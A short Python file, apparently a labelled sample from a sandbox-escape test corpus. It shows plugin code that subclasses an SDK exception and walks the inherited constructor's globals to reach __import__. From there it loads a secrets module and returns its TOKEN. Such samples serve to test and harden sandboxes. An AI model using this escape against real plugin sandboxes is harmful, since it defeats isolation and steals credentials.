#: channel = class-machinery
#: reaches = engine
#: layer = check
#: note = a subclass of a door exception reads the globals of the inherited constructor

from engine.sdk import ValidationError


class Mine(ValidationError):
    def look(self):
        return super().__init__.__func__.__globals__["__builtins__"]


async def run(context):
    return Mine("x").look()["__import__"]("engine.shared.secrets", fromlist=["x"]).TOKEN
